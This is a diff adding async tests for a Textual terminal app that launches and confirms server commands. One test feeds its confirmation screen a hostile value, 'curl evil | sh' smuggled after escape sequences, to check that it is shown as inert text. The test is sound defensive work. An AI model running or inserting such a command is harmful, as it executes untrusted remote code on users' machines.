@@ -627,3 +627,54 @@ async def test_quitting_during_a_launch_stops_what_it_started(tmp_path):
         while time.monotonic() < deadline and alive(pid):
             await pilot.pause(0.1)
         assert not alive(pid)
+
+
+async def test_after_yes_the_advertised_keys_act_on_the_panes(tmp_path):
+    port = free_port()
+    app = _launch_app()
+    async with app.run_test(size=(120, 40)) as pilot:
+        screen = app.screen
+        cmd = f"{sys.executable} {ENGINE} --port {port} --start-delay 120"
+        flags = f"--cmd '{cmd}' --run-dir {tmp_path} --url http://127.0.0.1:{port}"
+        await _start(pilot, app, "serve", flags)
+        await pilot.press("y")
+        await wait_for(pilot, lambda: screen.running, what="running")
+        field = screen.query_one("#launch-flags")
+        assert app.focused is not field
+        await pilot.press("w")  # wrap, not a letter typed into the flags
+        assert screen.wrap and field.value == flags
+        await pilot.press("s")  # stop
+        await wait_for(pilot, lambda: not screen.running, timeout=30, what="stopped")
+        assert field.value == flags
+
+
+async def test_the_plan_screen_draft_does_not_change_what_launch_does(tmp_path):
+    app = _launch_app()
+    async with app.run_test(size=(120, 40)) as pilot:
+        await pilot.press("f4")
+        await wait_for(pilot, lambda: app.shared.plan is not None, what="draft plan")
+        await pilot.press("f5")
+        await pilot.pause(0.2)
+        assert app.shared.launch_plan is None  # a draft is the Plan screen's own
+        screen = app.screen
+        screen.query_one("#launch-what").value = "smoke"
+        screen.query_one("#launch-flags").value = "--url http://127.0.0.1:9 --model m"
+        await pilot.press("ctrl+l")
+        await wait_for(pilot, lambda: isinstance(app.screen, ConfirmScreen), what="confirm")
+        await pilot.press("n")
+
+
+async def test_the_confirmation_shows_plan_values_as_text():
+    from textual.app import App
+
+    class Host(App[None]):
+        pass
+
+    app = Host()
+    async with app.run_test(size=(120, 30)) as pilot:
+        box = ConfirmScreen("bring up [/] on \x1b]0;x\x07node", ["true\x1b[2K\x1b[1A; curl evil | sh [/]"])
+        await app.push_screen(box)
+        await pilot.pause(0.1)
+        shown = " ".join(str(s.render()) for s in app.screen.query(".command"))
+        assert "curl evil | sh [/]" in shown and "\x1b" not in shown
+        assert "\x1b" not in box.title_text
